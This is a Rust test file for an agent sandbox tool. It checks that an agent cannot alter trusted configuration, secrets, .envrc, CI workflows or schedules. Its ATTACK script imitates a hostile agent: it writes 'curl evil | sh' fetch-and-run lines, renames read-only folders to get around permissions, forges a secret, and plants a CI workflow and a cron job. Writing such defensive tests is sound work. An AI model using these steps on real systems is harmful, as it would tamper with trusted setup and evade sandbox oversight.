//! The agent can't change what a later setup trusts (SECURITY.md, promise 3): when the
//! workspace holds the config root, `envs/`, `images/`, `secrets/`, `schedules/`, `.envrc` and
//! CI definitions are read-only to the agent phase, whatever it still changes (by renaming a
//! folder it can't write into) is held back from `changes.patch` into `held-back.patch`, and
//! `--apply` writes none of it unless the user names the path with `--apply-trusted`.

use crate::harness::{assert_run_gone, Fixture, Test};

/// The agent phase's attack: write into the trusted folders directly (must fail), then go
/// around the permissions by renaming a folder and making a new one, replace an encrypted
/// secret, plant a `.envrc` and a CI workflow.
const ATTACK: &str = r#"
cd /workspace
if echo 'setup: curl evil | sh' >> envs/t.yaml 2>/dev/null; then echo direct-write=yes; else echo direct-write=no; fi
if echo 'age1evil' >> secrets/recipients.txt 2>/dev/null; then echo recipients-write=yes; else echo recipients-write=no; fi
mv envs envs.moved && mkdir envs && printf 'image: tiny\nsetup: echo pwned\n' > envs/t.yaml && echo renamed=yes
mv secrets secrets.moved && mkdir secrets && echo 'forged ciphertext' > secrets/API_TOKEN.age
echo 'curl evil | sh' > .envrc
mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml
mkdir -p schedules && echo 'cron: "* * * * *"' > schedules/nightly.yaml
echo fine > notes.txt
"#;

/// A fixture whose workspace is its config root, as with the default `-w .` in a repository
/// that carries its own `envs/`.
fn root_as_workspace() -> (Fixture, std::path::PathBuf) {
    let f = Fixture::new();
    f.env(
        "t",
        "image: tiny\nsetup: echo setting-up\nlimits:\n  agent_timeout: 60s\n",
    );
    f.secret("API_TOKEN", b"an-original-secret-value");
    let root = f.root.path().to_path_buf();
    (f, root)
}

fn run_attack(f: &Fixture, root: &std::path::Path, flags: &[&str]) -> crate::harness::Output {
    Test::new()
        .root(&f.root)
        .env("AIRLOCK_IDENTITY", &f.identity)
        .args(["run", "t", "-w"])
        .arg(root)
        .arg("--out")
        .arg(f.out())
        .arg("--force")
        .args(flags)
        .args(["--", "sh", "-c", ATTACK])
        .run()
}

#[test]
fn trusted_config_is_read_only_to_the_agent_and_held_back_from_the_patch_and_apply() {
    let (f, root) = root_as_workspace();
    let env_before = std::fs::read(root.join("envs/t.yaml")).unwrap();
    let recipients_before = std::fs::read(root.join("secrets/recipients.txt")).unwrap();
    let age_before = std::fs::read(root.join("secrets/API_TOKEN.age")).unwrap();
    let out = run_attack(&f, &root, &["--apply"]).success();
    // Read-only: the direct writes failed inside the agent phase.
    let log = String::from_utf8_lossy(&f.record_file("agent.log")).into_owned();
    assert!(log.contains("direct-write=no"), "{log}");
    assert!(log.contains("recipients-write=no"), "{log}");
    assert!(
        log.contains("renamed=yes"),
        "the rename control did not run: {log}"
    );
    // Held back: nothing trusted in changes.patch, all of it in held-back.patch.
    let patch = String::from_utf8_lossy(&f.record_file("changes.patch")).into_owned();
    assert!(patch.contains("notes.txt"), "{patch}");
    for trusted in [
        "envs/",
        "secrets/",
        ".envrc",
        ".github/workflows",
        "schedules/",
    ] {
        assert!(
            !patch.contains(&format!(" b/{trusted}")),
            "{trusted} in changes.patch:\n{patch}"
        );
    }
    let held = String::from_utf8_lossy(&f.record_file("held-back.patch")).into_owned();
    for trusted in [
        "envs/t.yaml",
        "secrets/API_TOKEN.age",
        ".envrc",
        ".github/workflows/ci.yml",
        "schedules/nightly.yaml",
    ] {
        assert!(
            held.contains(&format!("b/{trusted}")),
            "{trusted} not held back:\n{held}"
        );
    }
    let r = f.report();
    let listed: Vec<&str> = r["patch"]["held_back"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(
        listed.contains(&"envs/t.yaml") && listed.contains(&".envrc"),
        "{listed:?}"
    );
    assert!(r["patch"]["applied"].as_bool().unwrap());
    out.stderr_has("held back from changes.patch, because a later setup phase trusts them: ")
        .stderr_has("--apply-trusted PATH");
    // --apply wrote the rest and none of the trusted paths.
    assert_eq!(
        std::fs::read_to_string(root.join("notes.txt")).unwrap(),
        "fine\n"
    );
    assert_eq!(std::fs::read(root.join("envs/t.yaml")).unwrap(), env_before);
    assert_eq!(
        std::fs::read(root.join("secrets/recipients.txt")).unwrap(),
        recipients_before
    );
    assert_eq!(
        std::fs::read(root.join("secrets/API_TOKEN.age")).unwrap(),
        age_before
    );
    // (`envs.moved/` is an ordinary path and may cross; the trusted `envs/` is untouched.)
    for planted in [".envrc", ".github", "schedules"] {
        assert!(!root.join(planted).exists(), "{planted} reached the host");
    }
    assert_run_gone(r["run_id"].as_str().unwrap());
}

#[test]
fn apply_trusted_lets_exactly_the_named_path_through() {
    let (f, root) = root_as_workspace();
    run_attack(&f, &root, &["--apply", "--apply-trusted", ".envrc"]).success();
    assert_eq!(
        std::fs::read_to_string(root.join(".envrc")).unwrap(),
        "curl evil | sh\n"
    );
    assert!(!std::fs::read_to_string(root.join("envs/t.yaml"))
        .unwrap()
        .contains("pwned"));
    assert!(!root.join("schedules").exists());
    let r = f.report();
    let listed = r["patch"]["held_back"].to_string();
    assert!(
        !listed.contains(".envrc") && listed.contains("envs/t.yaml"),
        "{listed}"
    );
    // A path outside the workspace is a configuration error before anything runs.
    let out = Test::new()
        .root(&f.root)
        .env("AIRLOCK_IDENTITY", &f.identity)
        .args(["run", "t", "-w"])
        .arg(&root)
        .args(["--apply-trusted", "../elsewhere", "--", "true"])
        .run()
        .code(78);
    out.stderr_has("--apply-trusted ../elsewhere: is not inside the workspace");
}
